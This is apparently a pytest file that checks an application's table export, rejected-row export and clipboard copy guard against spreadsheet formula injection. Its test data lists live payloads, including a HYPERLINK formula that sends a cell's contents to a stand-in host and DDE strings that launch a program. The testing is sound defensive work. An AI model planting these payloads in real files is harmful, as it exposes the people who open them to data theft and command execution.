"""Texts from strangers in the tables that the program writes: no spreadsheet program runs them.

Every place that writes or copies a table is tried with cells that would be formulas.
"""

import csv
import io
from collections.abc import Iterable
from pathlib import Path

import openpyxl
import pytest
from PySide6.QtGui import QGuiApplication, QStandardItem, QStandardItemModel
from pytestqt.qtbot import QtBot

from app.pages.compare.comparison import compare
from app.pages.compare.systems.rows import Rows
from app.pages.compare.systems.systems import ComparedSystem, Kind, SystemEntry
from app.pages.compare.table.copying import row_lines, score_lines, to_csv
from app.pages.compare.table.score_table import score_table
from app.widgets.table_view import TableView
from engine.contract.projects.project import ExampleNote
from engine.contract.protocol.data import ExportRejected, ImportFile
from engine.contract.reading.reading import ReadOptions
from engine.contract.runs.events import RunState
from engine.contract.runs.scores import OutputRow, OutputsMeta, Score
from engine.contract.studies.keys import StudyKey
from engine.contract.studies.recipes import StudyKind
from engine.contract.studies.results import RunResult, StudyResults
from engine.contract.studies.study import StudySpec
from engine.contract.tables.saving import Line, csv_text, write_table
from engine.data.importing import export_rejected, import_file
from engine.decoding.files import output_lines
from engine.reporter import Silent
from engine.studies.tables import runs_table

ATTACKS = (
    '=HYPERLINK("http://a.example/?"&A1,"see")',
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-2+3+cmd|' /c calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
)
RUN_STARTS = ("=", "+", "-", "@", "\t", "\r")


def row(attack: str) -> OutputRow:
    return OutputRow(
        attack, attack, attack, (attack,), category=attack, row_scores=(("bleu", -1.5),)
    )


def comparison_lines(attack: str) -> list[Line]:
    score = Score("bleu", 1.0, attack, 0.5, 1.5)
    meta = OutputsMeta(attack, attack, "test", "f", attack, (score,), 1.0, 1.0)
    entry = SystemEntry(attack, Kind.RUN, attack, Path("a"), True)
    work = compare([ComparedSystem(entry, Rows((row(attack),)), meta)])
    while True:
        try:
            next(work)
        except StopIteration as end:
            comparison = end.value
            break
    notes = {attack: ExampleNote(attack, True, attack, (attack,))}
    scores = score_table(comparison, "bleu", {})
    assert to_csv(scores) == csv_text(score_lines(scores))
    return [*row_lines(comparison, notes), *score_lines(scores)]


def study_lines(attack: str) -> list[Line]:
    study = StudySpec("s", StudyKind.LENGTH, attack, runs=(), metrics=("bleu",))
    run = RunResult(run_id=attack, key=StudyKey(), replicate=0, seed=0, state=RunState.FINISHED)
    return list(runs_table(study, StudyResults(study_id="s", runs=(run,))))


def texts(lines: Iterable[Line]) -> list[str]:
    return [cell for line in lines for cell in line if isinstance(cell, str) and cell]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("make", [comparison_lines, study_lines, lambda a: output_lines([row(a)])])
def test_no_cell_begins_a_formula(make: object, attack: str, tmp_path: Path) -> None:
    lines = list(make(attack))  # type: ignore[operator]
    assert attack in texts(lines)
    write_table(tmp_path / "a.csv", lines)
    written = (tmp_path / "a.csv").read_bytes().decode("utf-8-sig")
    for text in (written, csv_text(lines)):
        cells = [cell for line in csv.reader(io.StringIO(text, newline="")) for cell in line]
        assert f"'{attack}" in cells
        assert not [c for c in cells if c.startswith(RUN_STARTS) and not is_number(c)]
    write_table(tmp_path / "a.xlsx", lines)
    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx").active
    assert "f" not in {cell.data_type for line in sheet.iter_rows() for cell in line}


@pytest.mark.parametrize("attack", [text for text in ATTACKS if "\r" not in text])
def test_rejected_rows(attack: str, tmp_path: Path) -> None:
    text = attack.replace('"', '""')
    (tmp_path / "a.csv").write_text(f'a,b,c,d,e,f\n1,2,3,4,5,6\n"{text}"\n', newline="")
    store = str(tmp_path / "a.sqlite")
    import_file(ImportFile(str(tmp_path / "a.csv"), ReadOptions(header=True), store), Silent())
    export_rejected(ExportRejected(store, str(tmp_path / "out.csv")), Silent())
    text = (tmp_path / "out.csv").read_bytes().decode("utf-8-sig")
    (_, line) = csv.reader(io.StringIO(text, newline=""))
    assert not line[2].startswith(RUN_STARTS)


@pytest.mark.parametrize("attack", ATTACKS)
def test_rows_on_the_clipboard(qtbot: QtBot, attack: str) -> None:
    model = QStandardItemModel(1, 1)
    model.setItem(0, 0, QStandardItem(attack))
    model.setHorizontalHeaderLabels([attack])
    view = TableView("Rows")
    qtbot.addWidget(view)
    view.setModel(model)
    view.select_row(0)
    view.copy()
    copied = QGuiApplication.clipboard().text()
    QGuiApplication.clipboard().clear()
    for line in copied.splitlines():
        assert not line.startswith(RUN_STARTS)
